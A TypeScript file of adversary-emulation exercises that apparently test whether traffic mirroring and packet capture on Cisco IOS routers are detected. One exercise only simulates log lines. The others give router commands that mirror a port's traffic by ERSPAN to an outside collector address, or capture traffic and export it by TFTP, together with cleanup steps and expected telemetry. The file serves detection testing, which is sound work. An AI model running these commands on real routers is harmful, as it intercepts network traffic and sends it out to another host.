/** How somebody sees whether mirrors of IOS are noticed: lines in a router's name, and a session on a router of a laboratory. */
import type { Exercise } from '../../../facts/log-content/exercise.ts'

const LOGGED = 'logger -t CISCO-IOS "%PARSER-5-CFGLOG_LOGGEDCMD: User:#{account}  logged command:'

/** A line in the router's name, as a log forwarder would pass it on. */
function logged(command: string): string {
  return `${LOGGED}${command}"`
}

const COLLECTOR = {
  description: 'Address that would receive the copies',
  type: 'string',
  default: '203.0.113.66',
} as const

export const exercises: readonly Exercise[] = [
  {
    guid: '5b0a4f7e-3f6d-4c5a-9a51-6a7d0c1e8f14',
    name: 'Cisco IOS ERSPAN session, simulated in the log of a Linux host',
    description:
      'Writes the lines that a router logs while somebody types an ERSPAN session to an outside address, tagged CISCO-IOS, as a log forwarder would pass them on. No router is touched.',
    technique: 'T1020.001',
    platforms: ['linux'],
    selftest: 4,
    arguments: {
      account: { description: 'Account that the lines name', type: 'string', default: 'netops-1' },
      collector: COLLECTOR,
    },
    prerequisites: [
      {
        description: 'logger writes to the log that is forwarded',
        check: ['command -v logger > /dev/null'],
        get: ['echo "install util-linux or bsdutils"'],
      },
    ],
    executor: 'sh',
    needsElevation: false,
    commands: [
      logged('monitor session 1 type erspan-source'),
      logged('source interface GigabitEthernet1'),
      logged('no shutdown'),
      logged('destination'),
      logged('erspan-id 100'),
      logged('ip address #{collector}'),
    ],
    cleanup: [
      logged('no monitor session 1'),
      'echo "The lines stay in the log until it is rotated; to take them out, delete those tagged CISCO-IOS (for example: sed -i /CISCO-IOS/d /var/log/syslog)."',
    ],
    acts: ['session-set'],
    telemetry: [
      'The system log has lines with the tag CISCO-IOS that show the commands of the session.',
      'Where the device accounts commands with TACACS+, each is there with account, time and address of the device.',
    ],
  },
  {
    guid: '0d6c1d5c-8f0e-4a5b-8b86-2f1f6f1b7a52',
    name: 'Cisco IOS ERSPAN session on a router of a laboratory',
    description: 'Copies what one port of a router receives to an address of your own, by ERSPAN.',
    technique: 'T1020.001',
    platforms: ['network'],
    arguments: {
      session: { description: 'Number of a session that is free', type: 'integer', default: '9' },
      port: { description: 'Port whose traffic is copied', type: 'string', default: 'GigabitEthernet1' },
      collector: COLLECTOR,
      origin: { description: 'Address of the router that the copies come from', type: 'string', default: '192.0.2.1' },
    },
    prerequisites: [],
    executor: 'manual',
    needsElevation: true,
    commands: [
      'On a router of a laboratory that logs commands (archive, log config, logging enable, notify syslog), type:',
      'configure terminal',
      'monitor session #{session} type erspan-source',
      'source interface #{port} rx',
      'destination',
      'erspan-id 100',
      'ip address #{collector}',
      'origin ip address #{origin}',
      'exit',
      'no shutdown',
      'end',
      'Read the log of the router and the accounting of its AAA server at your collector.',
    ],
    cleanup: [
      'configure terminal',
      'no monitor session #{session}',
      'end',
      'show monitor session #{session} must say that there is none.',
    ],
    acts: ['session-set', 'session-removed'],
    telemetry: [
      'The log of the router has one line %PARSER-5-CFGLOG_LOGGEDCMD for each command.',
      'The accounting of its AAA server has each command with account and address.',
      'Flow records of the way out have GRE (protocol 47) from the origin to the collector.',
    ],
  },
  {
    guid: 'a8a5e0f5-66a0-4a3e-9a0b-3a6f2b9f0d61',
    name: 'Cisco IOS-XE packet capture and its export on a router of a laboratory',
    description: 'Captures on a port into a buffer and sends the file away.',
    technique: 'T1040',
    platforms: ['network'],
    arguments: {
      port: { description: 'Port whose traffic is captured', type: 'string', default: 'GigabitEthernet1' },
      server: { description: 'TFTP server of your own', type: 'string', default: '192.0.2.9' },
    },
    prerequisites: [],
    executor: 'manual',
    needsElevation: true,
    commands: [
      'On a router of a laboratory whose commands of EXEC mode are accounted for, type:',
      'monitor capture TAP interface #{port} both',
      'monitor capture TAP match any',
      'monitor capture TAP start',
      'monitor capture TAP stop',
      'monitor capture TAP export tftp://#{server}/tap.pcap',
    ],
    cleanup: ['no monitor capture TAP', 'Remove tap.pcap from #{server}.'],
    acts: ['capture-set', 'capture-removed', 'capture-exported'],
    telemetry: [
      'The accounting of the AAA server has each command with account and address; the command log of the router has none of them.',
    ],
  },
]
